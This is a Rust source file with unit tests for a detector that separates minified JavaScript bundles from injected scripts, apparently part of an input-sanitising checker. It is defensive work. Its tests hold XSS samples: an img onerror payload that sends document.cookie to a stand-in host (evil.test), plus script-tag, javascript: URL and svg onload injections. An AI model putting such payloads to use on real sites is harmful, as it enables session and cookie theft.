//! Minified JavaScript: a bundle's long line pasted by a developer ("what does this do?", or the
//! code alone) is code being discussed, not a value that breaks out of its place.
//!
//! A minifier removes white space and line breaks, renames variables to single letters and
//! writes `!0`, `!1` and `void 0` for `true`, `false` and `undefined`. What is left reads, to the
//! SQL and markup checks, like a stream of operators: `"AND"==i`, `e>r&&(t=o)`, `r===e?o:-1`
//! look like tautologies after a boolean operator. An injected script is a value: short, and it
//! opens a script element or a `javascript:` URL to run; a minified bundle is a long line of
//! statements and function expressions.
//!
//! The markers are JavaScript's own syntax (the ECMAScript keywords and operators a minifier
//! keeps, and the constants it shortens). Linear: one pass over the text per marker.

/// Shortest line read as a minified bundle, in bytes: a payload that calls a function or two is
/// shorter.
const MIN_LINE: usize = 160;
/// A minified line holds at most one space in this many bytes (spaces survive inside string
/// literals and between keywords only).
const BYTES_PER_SPACE: usize = 10;
/// Occurrences of JavaScript markers, and how many different ones, a minified line holds at least.
const MIN_MARKERS: usize = 4;
const MIN_MARKER_KINDS: usize = 2;
/// Statement and block characters (`;`, `{`, `}`) a minified line holds at least.
const MIN_STATEMENT_CHARS: usize = 3;

/// JavaScript syntax a minifier keeps or writes: keywords, strict comparisons, the shortened
/// constants, member access through `this` and prototypes.
const MARKERS: [&str; 14] = [
    "function",
    "return",
    "var ",
    "this.",
    "typeof",
    ".prototype",
    "void 0",
    "!0",
    "!1",
    "=>",
    "===",
    "!==",
    "&&",
    ".length",
];

/// What a script carries to run in a page it was injected into: a script element or a
/// `javascript:` URL (or a tag with an event handler, see `event_handler_tag`). A long line that
/// writes one is not given the benefit of the doubt.
const INJECTED_SCRIPT: [&str; 2] = ["<script", "javascript:"];

/// Bytes after a tag's `<` searched for an event handler attribute.
const MAX_TAG: usize = 200;

/// Whether the text holds a line of minified JavaScript: its longest line is long, nearly
/// without spaces, and made of JavaScript statements (markers of at least two kinds, statement
/// and block characters), and the text writes no script element or `javascript:` URL.
pub(super) fn minified_script(raw: &str) -> bool {
    let Some(line) = raw.lines().map(str::trim).max_by_key(|l| l.len()) else { return false };
    if line.len() < MIN_LINE || line.bytes().filter(|&b| b == b' ').count() * BYTES_PER_SPACE > line.len() {
        return false;
    }
    let statements = line.bytes().filter(|b| matches!(b, b';' | b'{' | b'}')).count();
    if statements < MIN_STATEMENT_CHARS {
        return false;
    }
    let (mut markers, mut kinds) = (0usize, 0usize);
    for marker in MARKERS {
        let n = line.matches(marker).count();
        markers += n;
        kinds += usize::from(n > 0);
    }
    if markers < MIN_MARKERS || kinds < MIN_MARKER_KINDS {
        return false;
    }
    let lower = raw.to_ascii_lowercase();
    !INJECTED_SCRIPT.iter().any(|s| lower.contains(s)) && !event_handler_tag(&lower)
}

/// Whether the (lower-cased) text opens a tag with an event handler attribute (`<img src=x
/// onerror=…>`, `<svg/onload=…>`): a name after white space, `/` or a quote, `on` and letters,
/// then `=`, before the tag ends. Linear: at most `MAX_TAG` bytes are read after each `<`.
fn event_handler_tag(lower: &str) -> bool {
    let b = lower.as_bytes();
    b.iter().enumerate().filter(|(_, &c)| c == b'<').any(|(i, _)| {
        if !b.get(i + 1).is_some_and(u8::is_ascii_alphabetic) {
            return false;
        }
        let tag = b.get(i + 1..b.len().min(i + 1 + MAX_TAG)).unwrap_or_default();
        let tag = tag.split(|&c| c == b'>' || c == b'<').next().unwrap_or_default();
        tag.windows(3).enumerate().any(|(j, w)| {
            let handler = matches!(w[0], b' ' | b'\t' | b'\n' | b'/' | b'"' | b'\'') && w[1] == b'o' && w[2] == b'n';
            handler && {
                let rest = tag.get(j + 3..).unwrap_or_default();
                let name = rest.iter().take_while(|c| c.is_ascii_lowercase()).count();
                name > 0
                    && rest.get(name..).unwrap_or_default().iter().find(|c| **c != b' ').is_some_and(|&c| c == b'=')
            }
        })
    })
}

#[cfg(test)]
mod tests {
    use super::minified_script;

    // Written for this test, in the style a minifier writes.
    const BUNDLE: &str = "var a=function(e,t){return this.items.filter(function(n){return n.id===e&&!n.hidden})},\
        b=function(e){for(var t=0,n=e.length;t<n;t++)if(void 0===e[t])return!1;return!0};\
        Cart.prototype.total=function(){return this.items.reduce(function(s,i){return s+i.price},0)};";

    #[test]
    fn a_bundle_line_is_minified_code() {
        assert!(minified_script(BUNDLE));
        assert!(minified_script(&format!("What does this do?\n\n{BUNDLE}")));
    }

    #[test]
    fn short_payloads_prose_and_injected_scripts_are_not() {
        for text in [
            "x=1;y=function(){return!0};z=typeof q===\"u\"&&q.length",
            "\"><img src=x onerror=\"var s=this.src;fetch('//evil.test/?c='+document.cookie)\">",
            "The function returns the length of this list, and a value of void 0 means it is unset; \
             the typeof operator tells them apart. We check it && return early when the list is empty, \
             as the docs say.",
        ] {
            assert!(!minified_script(text), "{text}");
        }
        assert!(!minified_script(&format!("\"><script>{BUNDLE}</script>")));
        assert!(!minified_script(&format!("{BUNDLE}location='javascript:alert(1)'")));
        assert!(!minified_script(&format!("{BUNDLE}x.innerHTML='<img src=x onerror=go()>'")));
        assert!(!minified_script(&format!("{BUNDLE}document.write('<svg/onload =go()>')")));
        // A property named like a handler is not a tag's attribute.
        assert!(minified_script(&format!("{BUNDLE}e.onload=function(){{return!0}};")));
        assert!(!minified_script(""));
    }
}
